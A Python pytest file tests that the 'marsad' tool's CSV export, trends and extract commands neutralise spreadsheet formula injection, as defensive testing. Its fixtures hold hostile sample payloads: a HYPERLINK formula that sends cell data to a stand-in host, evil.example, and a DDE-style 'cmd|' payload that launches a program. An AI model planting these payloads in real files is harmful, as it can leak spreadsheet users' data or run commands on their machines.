"""CSV formula injection (OWASP): a text cell a spreadsheet would run as a formula is
written inert by every CSV writer (export, extract, trends), and as it is with --csv-raw."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path

import pytest

from marsad.cli import main
from marsad.csvsafe import neutralise, restore
from marsad.store import Store
from tests.store.writer import article

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
CASES = [  # cell as stored -> as written by default
    (EVIL, "'" + EVIL),
    ("+1-555-0100", "'+1-555-0100"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("-33.5", "-33.5"),                 # a number stays a number
    ("Deir ez-Zor", "Deir ez-Zor"),
    ("", ""),
]


@pytest.mark.parametrize(("given", "written"), CASES)
def test_neutralise_row_by_row(given: str, written: str) -> None:
    assert neutralise(given) == written
    assert restore(written) == given


def marsad(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main(list(args))
    out, err = capsys.readouterr()
    return int(exc.value.code or 0), out, err


def _hostile_store(url: str) -> None:
    art, evs = article(0, n_events=1)
    art = replace(art, outlet=EVIL)
    evs = [replace(evs[0], actor1="@SUM(1,2)", source=EVIL, notes="-2+3+cmd|' /C calc'!A0")]
    with Store.open(url) as store:
        store.save_article(art, evs)


def test_export_csv_is_inert_by_default_and_raw_on_request(capsys, url: str) -> None:
    _hostile_store(url)
    code, out, _ = marsad(capsys, "export", "--db", url, "--format", "acled-csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["source"] == "'" + EVIL and row["actor1"] == "'@SUM(1,2)"
    assert row["notes"].startswith("'-2+3")
    assert not any(v.startswith(("=", "+", "@")) for v in row.values())
    code, out, _ = marsad(capsys, "export", "--db", url, "--format", "acled-csv", "--csv-raw")
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["source"] == EVIL and row["actor1"] == "@SUM(1,2)"


def test_trends_csv_is_inert(capsys, url: str) -> None:
    _hostile_store(url)
    code, out, _ = marsad(capsys, "trends", "--db", url, "--by", "actor", "--format", "csv", "--until", "2024-01-07")
    assert code == 0, out
    keys = {r["actor"] for r in csv.DictReader(io.StringIO(out))}
    assert "'@SUM(1,2)" in keys and "@SUM(1,2)" not in keys


@pytest.mark.slow
def test_extract_csv_is_inert(capsys, tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"doc_id": "x1", "published": "2024-03-04", "outlet": EVIL,
                               "text": "Gunmen attacked a police checkpoint in Kirkuk on Sunday, killing "
                                       "three policemen, police said."}) + "\n", encoding="utf-8")
    for flag, expect in (([], "'" + EVIL), (["--csv-raw"], EVIL)):
        out = tmp_path / "out.csv"
        code, _, err = marsad(capsys, "extract", "-i", str(src), "-o", str(out), *flag)
        assert code == 0, err
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        # the outlet first, then who it quotes ("police said")
        assert rows and all(r["source"].split("; ")[0] == expect for r in rows), rows
